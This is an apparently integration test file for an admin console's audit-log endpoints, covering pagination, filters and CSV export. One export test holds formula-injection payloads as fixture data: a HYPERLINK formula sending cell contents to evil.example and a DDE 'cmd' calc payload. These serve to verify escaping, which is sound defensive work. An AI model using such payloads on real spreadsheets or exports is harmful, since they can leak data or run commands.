import { request, type IncomingMessage } from 'node:http';
import { sql } from 'drizzle-orm';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_SIGN_IN_ACTIONS, auditAdminsResponseSchema, envelope } from '@manager/contract';
import { EXPORT_BATCH } from '../../src/audit/csv';
import { auditLog } from '../../src/db/schema/index';
import {
  allPages,
  EDGE,
  expected,
  GONE_ADMIN,
  insertFixture,
  oracle,
  page,
  PLAYERS,
  queryString,
  type DemoAdminIds,
  type Filter,
} from '../support/audit-support';
import { buildTestApp, signIn, type TestApp } from '../support/helper';
import { rowsOf } from '../support/tasks-helpers';

let t: TestApp;
let token: string;
let demo: DemoAdminIds;
beforeAll(async () => {
  t = await buildTestApp();
  token = (await signIn(t)).accessToken;
  demo = await insertFixture(t);
}, 60_000);
afterAll(() => t?.close());

const ids = (entries: Array<{ id: number }>) => entries.map((e) => e.id);

/** Expects a 400 whose message names `field` first. */
async function refused(url: string, field: string) {
  const res = await t.call({ method: 'GET', url, token });
  expect(res.statusCode, `${url}: ${res.body}`).toBe(400);
  expect(res.json().message, url).toMatch(new RegExp(`^${field}: `));
}

describe('GET /manager/audit', () => {
  it('lists every row newest first (to the microsecond, then by id), each entry as the contract says', async () => {
    const all = await oracle(t);
    const entries = await allPages(t, token, {}, 100);
    expect(ids(entries)).toEqual(all.map((r) => r.id));
    const edit = entries.find((e) => e.action === 'user.balances.update' && e.admin.id === demo.admin.id)!;
    expect(edit).toMatchObject({
      admin: { id: demo.admin.id, username: demo.admin.username },
      entityType: 'user',
      entityId: String(edit.userTelegramId),
      before: { tonBalance: expect.any(Number) },
      after: { tonBalance: expect.any(Number) },
    });
    expect(edit.at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it('pages by cursor over rows of equal created_at: every row exactly once, in order, whatever the page size', async () => {
    const all = await oracle(t);
    const sameTime = all.filter((r) => r.pos === all[0]!.pos).length;
    expect(sameTime, 'the fixture wrote rows in one transaction').toBeGreaterThanOrEqual(100);
    for (const limit of [1, 7, 50, 100])
      expect(ids(await allPages(t, token, {}, limit)), `limit ${limit}`).toEqual(all.map((r) => r.id));
    // The default page is 50 rows.
    const first = await page(t, token, {});
    expect(first.entries).toHaveLength(50);
    expect(first.nextCursor).toEqual(expect.any(String));
  });

  const filters: Array<[string, () => Filter]> = [
    ['admin', () => ({ adminId: String(demo.twoFactor.id) })],
    ['admin that no longer exists', () => ({ adminId: String(GONE_ADMIN.id) })],
    ['action', () => ({ action: 'withdrawal.approve' })],
    ['entity type', () => ({ entityType: 'task' })],
    ['entity id (of several kinds)', () => ({ entityId: '5' })],
    ['entity type and id', () => ({ entityType: 'withdrawal', entityId: '5' })],
    ['player', () => ({ userTelegramId: String(PLAYERS[1]) })],
    ['from', () => ({ from: '2024-06-01T00:00:00Z' })],
    ['to', () => ({ to: '2024-06-01T00:00:00Z' })],
    ['from and to', () => ({ from: '2024-02-01', to: '2024-05-01T12:00' })],
    ['admin and action', () => ({ adminId: String(demo.admin.id), action: 'user.balances.update' })],
    [
      'player and date range',
      () => ({ userTelegramId: String(PLAYERS[0]), from: '2024-01-10', to: '2024-09-30' }),
    ],
    [
      'admin, action, entity type and id, player, from and to',
      () => ({
        adminId: String(demo.admin.id),
        action: 'user.balances.update',
        entityType: 'user',
        entityId: String(PLAYERS[0]),
        userTelegramId: String(PLAYERS[0]),
        from: '2024-01-01',
        to: '2030-01-01',
      }),
    ],
    ['a combination nothing matches', () => ({ adminId: String(demo.admin.id), action: 'task.update' })],
  ];
  it.each(filters)('filters by %s, alone or combined with the others, across pages', async (_name, make) => {
    const filter = make();
    const want = expected(await oracle(t), filter);
    const entries = await allPages(t, token, filter, 6);
    expect(ids(entries)).toEqual(want);
    if (_name !== 'a combination nothing matches')
      expect(want.length, 'the filter selects some rows, not all').toBeGreaterThan(0);
    expect(want.length).toBeLessThan((await oracle(t)).length);
  });

  it("includes both date bounds to the millisecond: an entry's `at` as from and to finds it, microseconds and all", async () => {
    const inMs = EDGE.rows.filter((at) => at.startsWith(EDGE.ms.slice(0, 23)));
    expect(inMs).toHaveLength(3);
    const entries = await allPages(t, token, { from: EDGE.ms, to: EDGE.ms });
    expect(entries.map((e) => e.at)).toEqual(inMs.map(() => EDGE.ms));
    // The neighbours a microsecond before and after that millisecond stay out.
    const wider = await allPages(t, token, {
      from: '2024-03-01T10:00:00.122Z',
      to: '2024-03-01T10:00:00.124Z',
    });
    expect(wider).toHaveLength(EDGE.rows.length);
  });

  it('takes a date alone as `to` through the end of that day (UTC)', async () => {
    const entries = await allPages(t, token, { from: '2024-03-01', to: '2024-03-01' });
    const at = entries.map((e) => e.at);
    expect(at).toContain(EDGE.lastOfDay.replace(/\d{3}Z$/, 'Z'));
    expect(at).not.toContain('2024-03-02T00:00:00.000Z');
    expect(ids(entries)).toEqual(
      expected(await oracle(t), { from: '2024-03-01T00:00:00.000Z', to: '2024-03-01T23:59:59.999Z' }),
    );
  });

  it('keeps showing an admin who no longer exists, by the username the rows kept', async () => {
    const leaverId = Number(
      (
        await rowsOf(t, sql`insert into admins (username, password_hash) values ('leaver', 'x') returning id`)
      )[0]!.id,
    );
    await t.db.insert(auditLog).values({
      adminId: leaverId,
      adminUsername: 'leaver',
      action: 'task.delete',
      entity: 'task',
      entityId: '3',
    });
    await t.db.execute(sql`delete from admins where id = ${leaverId}`);
    const entries = await allPages(t, token, { adminId: String(leaverId) });
    expect(entries.map((e) => e.admin)).toEqual([{ id: leaverId, username: 'leaver' }]);
    const gone = await allPages(t, token, { adminId: String(GONE_ADMIN.id) }, 100);
    expect(gone.length).toBeGreaterThan(0);
    for (const e of gone) expect(e.admin).toEqual(GONE_ADMIN);
  });

  it('shows a before or after that is not an object under `value`', async () => {
    await t.db
      .insert(auditLog)
      .values({ adminId: null, action: 'odd.shape', entity: 'settings', before: [1, 2], after: 'text' });
    const [entry] = (await page(t, token, { action: 'odd.shape' })).entries;
    expect(entry).toMatchObject({
      before: { value: [1, 2] },
      after: { value: 'text' },
      admin: { id: null, username: null },
    });
  });

  it('leaves out the rows of signing in when asked (signIns=false), paging over the rest honestly', async () => {
    const all = await oracle(t);
    const signIns = all.filter((r) => (AUDIT_SIGN_IN_ACTIONS as readonly string[]).includes(r.action));
    expect(signIns.length, 'the fixture signs in').toBeGreaterThan(0);
    const without = await allPages(t, token, { signIns: 'false' }, 7);
    expect(ids(without)).toEqual(expected(all, { signIns: 'false' }));
    expect(without.length).toBe(all.length - signIns.length);
    expect(without.some((e) => (AUDIT_SIGN_IN_ACTIONS as readonly string[]).includes(e.action))).toBe(false);
    // Asked for, or not said: every row, sign-ins included.
    expect(ids(await allPages(t, token, { signIns: 'true' }, 100))).toEqual(all.map((r) => r.id));
    // With another filter: both hold.
    const admin = String(demo.admin.id);
    expect(ids(await allPages(t, token, { adminId: admin, signIns: 'false' }, 100))).toEqual(
      expected(all, { adminId: admin, signIns: 'false' }),
    );
  });

  it('refuses a bad filter, cursor or limit with a 400 naming it', async () => {
    const at = (s: string) => Buffer.from(s).toString('base64url');
    const cases: Array<[string, string]> = [
      ['adminId=abc', 'adminId'],
      ['adminId=0', 'adminId'],
      ['adminId=2147483648', 'adminId'],
      ['entityType=planet', 'entityType'],
      ['signIns=maybe', 'signIns'],
      ['userTelegramId=-1', 'userTelegramId'],
      ['userTelegramId=1.5', 'userTelegramId'],
      ['from=yesterday', 'from'],
      ['to=2024-13-01', 'to'],
      ['from=2024-05-02&to=2024-05-01T00:00', 'from'],
      [`action=${'a'.repeat(201)}`, 'action'],
      ['limit=0', 'limit'],
      ['limit=101', 'limit'],
      ['limit=ten', 'limit'],
      ['cursor=%2B%2B%2B', 'cursor'],
      ['cursor=abc', 'cursor'],
      [`cursor=${at('2024-03-01T10:00:00.123456Z')}`, 'cursor'],
      [`cursor=${at('2024-02-30T10:00:00.123456Z_5')}`, 'cursor'],
      [`cursor=${at('0000-01-01T00:00:00.000000Z_5')}`, 'cursor'],
      [`cursor=${at('2024-03-01T10:00:00.123Z_5')}`, 'cursor'],
      [`cursor=${at('2024-03-01T10:00:00.123456Z_0')}`, 'cursor'],
      [`cursor=${at('2024-03-01T10:00:00.123456Z_2147483648')}`, 'cursor'],
      [`cursor=${at('2024-03-01T10:00:00.123456Z_5_6')}`, 'cursor'],
      [`cursor=${'x'.repeat(201)}`, 'cursor'],
    ];
    for (const [q, field] of cases) await refused(`/manager/audit?${q}`, field);
  });

  it('needs a signed-in admin', async () => {
    expect((await t.call({ method: 'GET', url: '/manager/audit' })).statusCode).toBe(401);
    expect((await t.call({ method: 'GET', url: '/manager/audit/admins' })).statusCode).toBe(401);
  });
});

describe('GET /manager/audit/admins', () => {
  it('names every admin that exists and every one the log names, once each, by username', async () => {
    await t.db.execute(sql`insert into admins (username, password_hash) values ('Quiet', 'x')`);
    // An admin renamed since: the list shows today's name.
    await t.db
      .insert(auditLog)
      .values({ adminId: demo.admin.id, adminUsername: 'old-name', action: 'task.update', entity: 'task' });
    const res = await t.call({ method: 'GET', url: '/manager/audit/admins', token });
    expect(res.statusCode).toBe(200);
    const { admins } = envelope(auditAdminsResponseSchema).parse(res.json()).data;
    const existing = await rowsOf(t, sql`select id, username from admins`);
    const acted = await rowsOf(
      t,
      sql`select distinct admin_id from audit_log where admin_id is not null and admin_id not in (select id from admins)`,
    );
    expect(admins.map((a) => a.id).sort((a, b) => a - b)).toEqual(
      [...existing.map((r) => Number(r.id)), ...acted.map((r) => Number(r.admin_id))].sort((a, b) => a - b),
    );
    expect(admins).toContainEqual(GONE_ADMIN);
    expect(admins).toContainEqual({ id: demo.admin.id, username: demo.admin.username });
    expect(admins.map((a) => a.username)).toContain('Quiet');
    const names = admins.map((a) => a.username.toLowerCase());
    expect(names).toEqual([...names].sort());
  });

  it('names a gone admin by the latest username the log kept', async () => {
    await t.db.insert(auditLog).values([
      {
        adminId: 4242,
        adminUsername: 'first-name',
        action: 'task.update',
        entity: 'task',
        createdAt: new Date('2024-01-01T00:00:00Z'),
      },
      {
        adminId: 4242,
        adminUsername: 'last-name',
        action: 'task.update',
        entity: 'task',
        createdAt: new Date('2024-02-01T00:00:00Z'),
      },
      { adminId: 4243, adminUsername: null, action: 'login.failure', entity: 'admin' },
    ]);
    const { admins } = (await t.call({ method: 'GET', url: '/manager/audit/admins', token })).json().data as {
      admins: Array<{ id: number; username: string }>;
    };
    expect(admins).toContainEqual({ id: 4242, username: 'last-name' });
    expect(admins).toContainEqual({ id: 4243, username: 'Admin #4243' });
  });
});

describe('GET /manager/audit/export', () => {
  type Row = Record<string, string>;
  const exportCsv = async (params: Record<string, string | number | undefined> = {}) => {
    const res = await t.call({
      method: 'GET',
      url: `/manager/audit/export?${queryString(params)}`,
      token,
      headers: { 'user-agent': 'audit-test/1.0' },
    });
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expect(res.body.startsWith('\ufeff'), 'a byte order mark, for spreadsheets').toBe(true);
    const rows = parse(res.body, { bom: true, columns: true }) as Row[];
    return { res, rows, header: res.body.slice(1).split('\r\n')[0] };
  };
  const exportRows = () =>
    rowsOf(t, sql`select * from audit_log where action = 'audit.export' order by id desc`);

  it('streams every matching row, newest first, across read batches of equal times, as a named CSV file', async () => {
    await t.db.execute(sql`
      insert into audit_log (admin_id, admin_username, action, entity, entity_id, after)
      select ${demo.admin.id}, ${demo.admin.username}, 'bulk.row', 'task', (g % 9)::text, jsonb_build_object('n', g)
      from generate_series(1, ${EXPORT_BATCH * 2 + 345}) g`);
    const { res, rows, header } = await exportCsv({ action: 'bulk.row' });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}T\d{2}-\d{2}-\d{2}Z\.csv"$/,
    );
    expect(header).toBe(
      'id,at,adminId,adminUsername,action,entityType,entityId,userTelegramId,before,after,ip,userAgent,reason,consoleVersion',
    );
    expect(rows.map((r) => Number(r.id))).toEqual(expected(await oracle(t), { action: 'bulk.row' }));
    expect(rows).toHaveLength(EXPORT_BATCH * 2 + 345);
    expect(rows[0]).toMatchObject({
      adminId: String(demo.admin.id),
      adminUsername: demo.admin.username,
      entityType: 'task',
      before: '',
      after: expect.stringMatching(/^\{"n":\d+\}$/),
    });
  }, 60_000);

  it('exports what the list shows for the same filters, and starts below its own record', async () => {
    for (const filter of [
      {},
      { adminId: String(GONE_ADMIN.id), to: '2024-06-01' },
      { entityType: 'withdrawal', entityId: '5' },
    ] as Filter[]) {
      const { rows } = await exportCsv(filter);
      const own = Number((await exportRows())[0]!.id);
      const want = expected(await oracle(t), filter).filter((id) => id !== own);
      expect(
        rows.map((r) => Number(r.id)),
        JSON.stringify(filter),
      ).toEqual(want);
      expect(want.length).toBeGreaterThan(0);
    }
  }, 60_000);

  it('keeps commas, quotes and line breaks, and turns cells that start a formula into text', async () => {
    await t.db.insert(auditLog).values({
      adminId: 5555,
      adminUsername: '@mallory',
      action: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      entity: 'task',
      entityId: '+1+2',
      before: { title: '=1+1' },
      ip: '-2+3',
      userAgent: "\t=cmd|' /C calc'!A0",
      reason: 'line one, "quoted"\r\nline two',
    });
    await t.db.insert(auditLog).values({
      adminId: 5555,
      adminUsername: 'plain',
      action: 'ok.action',
      entity: 'task',
      reason: '\r=2+2',
      entityId: 'a=b',
      userAgent: 'Mozilla;=1+1',
    });
    const { res, rows } = await exportCsv({ adminId: 5555 });
    const [plain, evil] = rows;
    expect(evil).toMatchObject({
      adminUsername: "'@mallory",
      action: '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      entityId: "'+1+2",
      // JSON cells start with a brace, so a formula inside one stays as it was.
      before: '{"title":"=1+1"}',
      ip: "'-2+3",
      userAgent: "'\t=cmd|' /C calc'!A0",
      reason: 'line one, "quoted"\r\nline two',
    });
    expect(plain).toMatchObject({ reason: "'\r=2+2", entityId: 'a=b', action: 'ok.action' });
    // In the file itself: quotes doubled inside a quoted cell.
    expect(res.body).toContain('"line one, ""quoted""\r\nline two"');
    // A spreadsheet that separates by ";" must not split a formula out of a cell.
    expect(plain!.userAgent).toBe('Mozilla;=1+1');
    expect(res.body).toContain('"Mozilla;=1+1"');
  });

  it('records itself first: action audit.export on entity audit, the filters in `after`, the player when the filter names one', async () => {
    const cases: Array<[Filter, number | null]> = [
      [{ userTelegramId: String(PLAYERS[2]), from: '2024-01-01' }, PLAYERS[2]!],
      [{ entityType: 'user', entityId: String(PLAYERS[1]) }, PLAYERS[1]!],
      [{ entityType: 'task', entityId: '5' }, null],
      [{}, null],
    ];
    for (const [filter, player] of cases) {
      const before = (await exportRows()).length;
      await exportCsv(filter);
      const rows = await exportRows();
      expect(rows).toHaveLength(before + 1);
      const row = rows[0]!;
      expect(row).toMatchObject({
        admin_id: demo.admin.id,
        admin_username: demo.admin.username,
        entity: 'audit',
        entity_id: null,
        user_telegram_id: player === null ? null : expect.anything(),
        user_agent: 'audit-test/1.0',
        ip: expect.any(String),
      });
      if (player !== null) expect(Number(row.user_telegram_id)).toBe(player);
      const after = typeof row.after === 'string' ? JSON.parse(row.after) : row.after;
      expect(after).toEqual(
        Object.fromEntries(
          Object.entries(filter).map(([k, v]) => [
            k,
            k === 'from' ? new Date(v).toISOString() : k === 'userTelegramId' ? Number(v) : v,
          ]),
        ),
      );
    }
    // The player's History (the log filtered by them) shows the export, newest first.
    const [first] = (await page(t, token, { userTelegramId: PLAYERS[2] })).entries;
    expect(first).toMatchObject({
      action: 'audit.export',
      entityType: 'audit',
      userTelegramId: PLAYERS[2],
      admin: demo.admin,
    });
  }, 60_000);

  it('has committed its record before the first byte, and keeps it when the client leaves early', async () => {
    // About 8 MB of CSV: more than the socket buffers hold, so the file cannot be done when its first bytes arrive.
    await t.db.execute(sql`
      insert into audit_log (admin_id, admin_username, action, entity, after)
      select ${demo.admin.id}, ${demo.admin.username}, 'bulk.big', 'settings', jsonb_build_object('text', repeat('x', 2000))
      from generate_series(1, 4000)`);
    const address = await t.app.listen({ port: 0, host: '127.0.0.1' });
    try {
      const before = (await exportRows()).length;
      const url = new URL(`${address}/manager/audit/export?action=bulk.big`);
      const req = request(url, {
        headers: { [t.config.apiKeyHeader]: t.config.apiKey, authorization: `Bearer ${token}` },
      });
      const res = await new Promise<IncomingMessage>((resolve) => req.on('response', resolve).end());
      expect(res.statusCode).toBe(200);
      await new Promise((resolve) => res.once('data', resolve));
      res.pause();
      // Read from another connection on PostgreSQL: the row is committed, not merely written.
      expect(await exportRows()).toHaveLength(before + 1);
      req.destroy();
      expect(await exportRows()).toHaveLength(before + 1);
    } finally {
      await new Promise((resolve) => t.app.server.close(resolve));
    }
  }, 60_000);

  it('refuses a bad filter with a 400 naming it, and records nothing', async () => {
    const before = (await exportRows()).length;
    await refused('/manager/audit/export?adminId=abc', 'adminId');
    await refused('/manager/audit/export?from=2024-05-02&to=2024-05-01', 'from');
    await refused('/manager/audit/export?userTelegramId=x', 'userTelegramId');
    expect(await exportRows()).toHaveLength(before);
  });

  it('answers HEAD without reading the log or recording an export', async () => {
    const before = (await exportRows()).length;
    const res = await t.call({ method: 'HEAD', url: '/manager/audit/export', token });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(await exportRows()).toHaveLength(before);
  });

  it('lets the console, on another origin, read the file name', async () => {
    const origin = t.config.corsOrigins[0]!;
    const res = await t.call({
      method: 'GET',
      url: '/manager/audit/export?entityType=mailing',
      token,
      headers: { origin },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['access-control-allow-origin']).toBe(origin);
    expect(res.headers['access-control-expose-headers']).toBe('Content-Disposition');
  });

  it('needs a signed-in admin', async () => {
    expect((await t.call({ method: 'GET', url: '/manager/audit/export' })).statusCode).toBe(401);
  });
});
